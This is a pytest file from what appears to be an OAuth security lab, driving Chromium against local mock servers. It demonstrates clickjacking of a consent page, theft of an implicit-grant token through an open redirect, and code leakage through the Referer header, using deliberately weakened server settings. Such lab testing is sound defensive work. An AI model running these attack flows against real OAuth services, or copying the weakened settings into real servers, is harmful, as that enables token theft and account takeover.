"""Notebook 12's attacker pages in a real browser (Chromium): what the scripted browser cannot do —
frames, scripts, the Referer a real browser sends — done by the real thing.

- clickjacking: the consent page framed on the attacker's page; a click on the decoy is a click on
  Allow when the server lets itself be framed, and does nothing when it sends the default headers
  (the frame stays empty);
- the implicit grant across the shop's open redirect: the attacker page's script sends itself the
  token from the fragment;
- Referer: from the shop's careless welcome page Chromium sends the attacker the code and state,
  and never the fragment — the same Referer the scripted browser sends.
Screenshots go to test-artifacts/attack-<what>.png.
"""
from __future__ import annotations

from urllib.parse import parse_qsl, urlsplit

import pytest
import requests
from oauthlib.oauth2 import MobileApplicationClient
from requests_oauthlib import OAuth2Session

import mock_server
from oauth_lab.attacker import DECOY, AttackerSite
from oauth_lab.careless_app import CarelessApp
from oauth_lab.lab import setup
from oauth_lab.user_agent import referrer

SCOPE = ["chats--access:ro"]


@pytest.fixture(scope="module")
def servers():
    """The default server, and beside it the weakened ones of the tests below."""
    lab = setup(seed=None, port=mock_server.free_port())
    weak = {name: setup(seed=None, port=mock_server.free_port(), make_current=False, **switches)
            for name, switches in {"framing": {"allow_framing": True}, "no_pkce": {"require_pkce": False},
                                   "implicit": {"allow_implicit": True, "redirect_matching": "prefix"}}.items()}
    yield lab, weak
    for server in (*weak.values(), lab):
        server.handle.stop()


@pytest.fixture(scope="module")
def site(servers):
    lab, _ = servers
    site = AttackerSite(lab.app.port + 4)
    yield site
    site.stop()


@pytest.fixture(scope="module")
def shop(servers, site):
    lab, _ = servers
    shop = CarelessApp(lab.app.port + 6, banner=site.page("banner.gif"))
    yield shop
    shop.stop()


def sign_in(page, server):
    page.goto(f"{server.issuer}/login")
    page.get_by_label("Username").fill("jane")
    page.get_by_label("Password").fill("jane-password")
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{server.issuer}/")


def prize_page(server, site) -> str:
    """The attacker's page framing the consent page for the attacker's own app on `server`."""
    app = requests.post(server.endpoint("registration"), json={
        "client_name": "Fernhollow Gift Cards", "redirect_uris": [site.page("catch")], "scope": "chats--access:ro"}).json()
    url, _ = OAuth2Session(app["client_id"], redirect_uri=site.page("catch"), scope=SCOPE).authorization_url(
        server.metadata["authorization_endpoint"])
    return site.page("prize", frame=url)


def click_the_decoy(page) -> None:
    page.mouse.click(DECOY["left"] + DECOY["width"] / 2, DECOY["top"] + DECOY["height"] / 2)


def test_clickjacking_a_click_on_the_decoy_allows_the_attackers_app(page, servers, site, artifacts):
    _, weak = servers
    sign_in(page, weak["framing"])
    page.goto(prize_page(weak["framing"], site))
    frame = page.frame_locator("iframe")
    allow = frame.get_by_role("button", name="Allow")
    allow.wait_for()
    box = allow.bounding_box()  # the decoy sits under Allow: the click lands on the framed button
    assert box["x"] <= DECOY["left"] + DECOY["width"] / 2 <= box["x"] + box["width"]
    assert box["y"] <= DECOY["top"] + DECOY["height"] / 2 <= box["y"] + box["height"]
    page.screenshot(path=artifacts / "attack-clickjacking-framed.png")
    caught = len(site.caught())
    click_the_decoy(page)
    [framed] = [f for f in page.frames if f != page.main_frame]
    framed.wait_for_url(f"{site.page('catch')}?*")  # Allow was clicked: the code went to the attacker
    assert len(site.caught()) == caught + 1 and "code" in site.caught()[-1]


def test_clickjacking_the_default_server_leaves_the_frame_empty(page, servers, site, artifacts):
    lab, _ = servers
    sign_in(page, lab)
    refused = []
    page.on("console", lambda message: refused.append(message.text))
    page.goto(prize_page(lab, site))
    page.wait_for_load_state("load")
    [framed] = [f for f in page.frames if f != page.main_frame]
    assert framed.url.startswith("chrome-error://"), framed.url  # the browser refused to show it
    assert page.frame_locator("iframe").get_by_role("button", name="Allow").count() == 0
    page.screenshot(path=artifacts / "attack-clickjacking-refused.png")
    caught = len(site.caught())
    click_the_decoy(page)
    page.wait_for_timeout(300)
    assert len(site.caught()) == caught, "a click through an empty frame reached the attacker"


def test_the_attackers_script_reads_the_token_the_open_redirect_carried(page, servers, site, shop, artifacts):
    _, weak = servers
    implicit = weak["implicit"]
    shop_id = requests.post(implicit.endpoint("registration"), json={
        "redirect_uris": [shop.redirect_uri], "token_endpoint_auth_method": "none", "grant_types": ["implicit"],
        "response_types": ["token"], "scope": "chats--access:ro"}).json()["client_id"]
    onward = shop.page("continue", site.page("steal"))
    url, _ = OAuth2Session(client=MobileApplicationClient(shop_id), redirect_uri=onward,
                           scope=SCOPE).authorization_url(implicit.metadata["authorization_endpoint"])
    caught = len(site.caught())
    page.goto(url)
    page.get_by_label("Username").fill("jane")
    page.get_by_label("Password").fill("jane-password")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name="Allow").click()
    page.wait_for_url(f"{site.page('steal')}#*")  # the app's redirect had no fragment: Chromium kept it
    page.wait_for_function("n => fetch('/received').then(r => r.json()).then(l => l.length > n)",
                           arg=len(site.log()))
    page.screenshot(path=artifacts / "attack-open-redirect.png")
    stolen = site.caught()[caught]["access_token"]
    assert requests.post(implicit.api("list_chats"), json={},
                         headers={"Authorization": f"Bearer {stolen}"}).status_code == 200


@pytest.mark.parametrize("grant", ["code", "token"])
def test_chromium_sends_the_referer_the_scripted_browser_sends(page, servers, site, shop, artifacts, grant):
    _, weak = servers
    server = weak["no_pkce"] if grant == "code" else weak["implicit"]
    welcome = shop.page("welcome")
    app = requests.post(server.endpoint("registration"), json={
        "redirect_uris": [welcome], "token_endpoint_auth_method": "none", "scope": "customers:ro",
        **({} if grant == "code" else {"grant_types": ["implicit"], "response_types": ["token"]})}).json()
    client = None if grant == "code" else MobileApplicationClient(app["client_id"])  # response_type=token
    url, _ = OAuth2Session(app["client_id"], client=client, redirect_uri=welcome,
                           scope=["customers:ro"]).authorization_url(server.metadata["authorization_endpoint"])
    page.goto(url)
    page.get_by_label("Username").fill("jane")
    page.get_by_label("Password").fill("jane-password")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name="Allow").click()
    page.wait_for_url(f"{welcome}*")
    page.wait_for_load_state("load")  # the banner loaded
    page.screenshot(path=artifacts / f"attack-referer-{grant}.png")
    sent = site.referers()[-1]
    assert sent == referrer(page.url, "no-referrer-when-downgrade", site.page("banner.gif"))
    assert "#" not in sent and "access_token" not in sent
    if grant == "code":
        assert {"code", "state", "iss"} <= set(dict(parse_qsl(urlsplit(sent).query)))
    else:
        assert sent == welcome and "access_token=" in urlsplit(page.url).fragment
